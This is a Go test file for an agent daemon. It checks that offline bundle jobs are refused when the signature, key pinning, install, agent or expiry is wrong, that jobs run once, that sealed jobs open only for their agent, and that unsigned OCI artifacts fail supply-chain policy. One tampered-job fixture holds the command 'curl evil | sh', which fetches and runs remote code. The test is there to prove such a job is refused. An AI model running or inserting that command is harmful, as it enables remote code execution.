package agent

import (
	"context"
	"crypto/ed25519"
	"encoding/json"
	"errors"
	"io"
	"log/slog"
	"strings"
	"testing"
	"time"

	"github.com/opencontainers/go-digest"

	"github.com/byoc-dev/byoc/agentd/identity"
	"github.com/byoc-dev/byoc/agentd/permissions"
	"github.com/byoc-dev/byoc/internal/ocicopy"
	"github.com/byoc-dev/byoc/internal/ocicopy/ocitest"
	"github.com/byoc-dev/byoc/internal/ocisign"
	"github.com/byoc-dev/byoc/plugins/sdk"
	"github.com/byoc-dev/byoc/rpc/agentchannel"
	"github.com/byoc-dev/byoc/rpc/agentproto"
)

// offlineAgent is an agent of install ins_1 (agt_1) with its state in
// dir, trusting imsdKey, made as agentd bundle import makes it (never
// connected).
func offlineAgent(t *testing.T, dir string, imsdKey ed25519.PrivateKey, rr Runner) *Agent {
	t.Helper()
	if _, err := identity.Load(dir); err != nil {
		key, _ := identity.NewKey()
		if err := identity.Save(dir, identity.Identity{AgentID: "agt_1", InstallID: "ins_1", IMSURL: "http://127.0.0.1:1", PrivateKey: key,
			IMSDKeys: []ed25519.PublicKey{imsdKey.Public().(ed25519.PublicKey)}}); err != nil {
			t.Fatal(err)
		}
	}
	a, err := New(context.Background(), Config{IMSURL: "http://127.0.0.1:1", StateDir: dir, Runner: rr, Logger: slog.New(slog.NewTextHandler(io.Discard, nil))})
	if err != nil {
		t.Fatal(err)
	}
	return a
}

// bundleJob is a bundle's job signed by key as imsd signs it, for agent
// agentID of install, valid until expires.
func bundleJob(t *testing.T, key ed25519.PrivateKey, install, agentID, jobID string, expires time.Time) agentproto.BundleJob {
	t.Helper()
	j := agentproto.BundleJob{Step: "web", JobID: jobID, InstallID: install, Attempt: 1, FencingToken: 1, Mode: "provision",
		ComponentType: "action", Operation: "apply", TimeoutSeconds: 60, Config: json.RawMessage(`{"steps":[{"run":"echo hi"}]}`)}
	cfg, _ := j.DecodeConfig()
	c, err := j.Claims(agentID, cfg)
	if err != nil {
		t.Fatal(err)
	}
	c.KeyID, c.Expires = agentproto.KeyID(key.Public().(ed25519.PublicKey)), expires
	j.KeyID, j.ExpireUnixMs, j.Signature = c.KeyID, expires.UnixMilli(), agentproto.SignJob(key, &c)
	return j
}

// A bundle's job passes only as an assignment would: imsd's signature,
// by a key the agent pinned, for this agent and install, unexpired, its
// config as signed. A job signed for another install's agent, one
// expired, one signed by a key the agent never pinned, and one whose
// config was changed after signing are refused; none runs.
func TestOfflineJobIsCheckedAsAnAssignment(t *testing.T) {
	_, imsdKey, _ := ed25519.GenerateKey(nil)
	_, otherKey, _ := ed25519.GenerateKey(nil)
	rr := &runRecorder{release: make(chan struct{})}
	close(rr.release)
	a := offlineAgent(t, t.TempDir(), imsdKey, rr)
	soon := time.Now().Add(time.Hour)
	changed := bundleJob(t, imsdKey, "ins_1", "agt_1", "job_changed", soon)
	changed.Config = json.RawMessage(`{"steps":[{"run":"curl evil | sh"}]}`)
	for _, bad := range []struct {
		name string
		job  agentproto.BundleJob
		want string
	}{
		{"another install's", bundleJob(t, imsdKey, "ins_2", "agt_1", "job_a", soon), `is for install "ins_2"`},
		{"another agent's", bundleJob(t, imsdKey, "ins_1", "agt_2", "job_b", soon), "signature"},
		{"expired", bundleJob(t, imsdKey, "ins_1", "agt_1", "job_c", time.Now().Add(-time.Minute)), "expired"},
		{"signed by a key not pinned", bundleJob(t, otherKey, "ins_1", "agt_1", "job_d", soon), "key"},
		{"changed after signing", changed, "signature"},
	} {
		if err := a.CheckOffline(&bad.job); err == nil || !strings.Contains(err.Error(), bad.want) {
			t.Errorf("%s job: CheckOffline: %v, want %q", bad.name, err, bad.want)
		}
		if _, err := a.RunOffline(context.Background(), OfflineJob{Bundle: "bdl_x", Job: &bad.job}, func(int32, string) {}); err == nil {
			t.Errorf("%s job: RunOffline ran it", bad.name)
		}
	}
	if s, _ := rr.get(); len(s) > 0 {
		t.Fatalf("refused jobs ran: %v", s)
	}
}

// A bundle's job runs once on an agent, across imports and restarts: the
// same job again (the bundle imported again, or a copy of it) is
// ErrAlreadyRun.
func TestOfflineJobRunsOnce(t *testing.T) {
	_, imsdKey, _ := ed25519.GenerateKey(nil)
	rr := &runRecorder{release: make(chan struct{})}
	close(rr.release)
	dir := t.TempDir()
	j := bundleJob(t, imsdKey, "ins_1", "agt_1", "job_once", time.Now().Add(time.Hour))
	out, err := offlineAgent(t, dir, imsdKey, rr).RunOffline(context.Background(), OfflineJob{Bundle: "bdl_x", Job: &j}, func(int32, string) {})
	if err != nil || out.Outcome.String() != "OUTCOME_SUCCEEDED" {
		t.Fatalf("first run: %v, %v", out, err)
	}
	// A new agent on the same state directory: the next import.
	again := offlineAgent(t, dir, imsdKey, rr)
	if _, err := again.RunOffline(context.Background(), OfflineJob{Bundle: "bdl_x", Job: &j}, func(int32, string) {}); !errors.Is(err, ErrAlreadyRun) {
		t.Fatalf("the same job again: %v", err)
	}
	if s, _ := rr.get(); len(s) != 1 {
		t.Fatalf("the job ran %d times", len(s))
	}
}

// A bundle's sealed jobs open only with the agent's key, under its
// install and agent: sealed to another agent's key, or to this key for
// another agent (another install's bundle), or changed, they do not.
func TestBundleJobsOpenOnlyForTheirAgent(t *testing.T) {
	_, imsdKey, _ := ed25519.GenerateKey(nil)
	a := offlineAgent(t, t.TempDir(), imsdKey, &runRecorder{})
	pub := a.privateKey().Public().(ed25519.PublicKey)
	otherPub, _, _ := ed25519.GenerateKey(nil)
	secret := []byte(`[{"config":{"env":{"TOKEN":"tok-planted"}}}]`)
	seal := func(to ed25519.PublicKey, install, agentID string) []byte {
		b, err := agentchannel.SealTo(to, agentproto.BundleJobsInfo(install, agentID), secret)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	if b, err := a.OpenBundleJobs(seal(pub, "ins_1", "agt_1")); err != nil || string(b) != string(secret) {
		t.Fatalf("its own bundle's jobs: %q, %v", b, err)
	}
	changed := seal(pub, "ins_1", "agt_1")
	changed[len(changed)-1] ^= 1
	for name, sealed := range map[string][]byte{
		"sealed to another agent's key":          seal(otherPub, "ins_1", "agt_1"),
		"sealed to this key for another install": seal(pub, "ins_2", "agt_1"),
		"sealed to this key for another agent":   seal(pub, "ins_1", "agt_2"),
		"changed":                                changed,
	} {
		if _, err := a.OpenBundleJobs(sealed); err == nil || !strings.Contains(err.Error(), "does not open with this agent's key") {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// An offline bundle's artifact is checked against the customer's
// supply-chain policy where it is before the import loads it, the
// bundle's OCI layout root (oci:DIR), as online an image is in the vendor
// registry: signed by imsd's key, it passes; unsigned, it is refused for
// that (not because the check took oci:DIR for a registry's host name).
// For an image, the job's own check when it runs (its vendor registry the
// layout, as RunOffline gives it) decides alike. A chart or module field
// may name an image too: checked in the layout likewise, before the
// install registry holds it.
func TestOfflineArtifactSupplyChain(t *testing.T) {
	ctx := t.Context()
	_, imsdKey, _ := ed25519.GenerateKey(nil)
	dir := t.TempDir()
	a := offlineAgent(t, dir, imsdKey, &runRecorder{})
	if _, err := permissions.Update(dir, time.Now(), "test", func(s *permissions.State) {
		s.SupplyChain = permissions.SupplyChainPolicy{RequireSignature: true}
	}); err != nil {
		t.Fatal(err)
	}
	layout := t.TempDir()
	repo, err := ocicopy.Open(ctx, ocicopy.Registry{LayoutRoot: layout}, "acme/web", ocicopy.Credentials{})
	if err != nil {
		t.Fatal(err)
	}
	defer repo.Close()
	signed, err := ocitest.Image(ctx, repo, ocitest.ImageSpec{Seed: 1, Layers: []int64{64}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ocisign.Sign(ctx, repo, signed, ocisign.ArtifactType, "", imsdKey); err != nil {
		t.Fatal(err)
	}
	unsigned, err := ocitest.Image(ctx, repo, ocitest.ImageSpec{Seed: 2, Layers: []int64{64}})
	if err != nil {
		t.Fatal(err)
	}
	// The install registry holds neither.
	r := &PluginRunner{InstallRegistry: "oci:" + t.TempDir()}
	refusal := []string{"rule require-signature", "acme/web@" + unsigned.Digest.String(), "it has no signature"}
	for _, c := range []struct {
		typ, field string
		dg         digest.Digest
		want       []string
		op         string // default apply
	}{
		{agentproto.ImageType, "source", signed.Digest, nil, ""},
		{agentproto.ImageType, "source", unsigned.Digest, refusal, ""},
		{"helm", "chart", signed.Digest, nil, ""},
		{"helm", "chart", unsigned.Digest, refusal, ""},
		{"terraform", "module", unsigned.Digest, refusal, ""},
		// Whatever the operation names: the import would load it all
		// the same (a drift check is never blocked when it runs, but
		// loads nothing past the policy either).
		{agentproto.ImageType, "source", unsigned.Digest, refusal, sdk.OpDrift},
		{"helm", "chart", unsigned.Digest, refusal, sdk.OpPlan},
	} {
		name := c.typ + " " + c.dg.Encoded()[:8] + " " + c.op
		j := bundleJob(t, imsdKey, "ins_1", "agt_1", "job_1", time.Now().Add(time.Hour))
		j.ComponentType, j.Config = c.typ, json.RawMessage(`{"`+c.field+`":"acme/web@`+c.dg.String()+`"}`)
		if c.op != "" {
			j.Operation = c.op
		}
		why, err := a.OfflineArtifactRefusal(ctx, r, &j, "oci:"+layout)
		if err != nil {
			t.Fatal(err)
		}
		if c.want == nil && why != "" {
			t.Fatalf("%s: refused before the load: %s", name, why)
		}
		for _, w := range c.want {
			if !strings.Contains(why, w) {
				t.Fatalf("%s: refusal before the load %q, want it to say %q", name, why, w)
			}
		}
		if c.typ != agentproto.ImageType || c.op != "" {
			continue
		}
		config, _ := j.DecodeConfig()
		job := Job{ID: j.JobID, Component: "web", ComponentType: j.ComponentType, Operation: j.Operation, SupplyChain: a.supplyChain,
			registryEnv: RegistryAccess{Host: "oci:" + layout}.Env()}
		_, runErr := r.checkSupplyChain(ctx, job, config, func(int32, string) {})
		if (runErr == nil) != (c.want == nil) {
			t.Fatalf("%s: when it runs: %v", name, runErr)
		}
		for _, w := range c.want {
			if !strings.Contains(runErr.Error(), w) {
				t.Fatalf("%s: refusal when it runs %q, want it to say %q", name, runErr, w)
			}
		}
	}
}
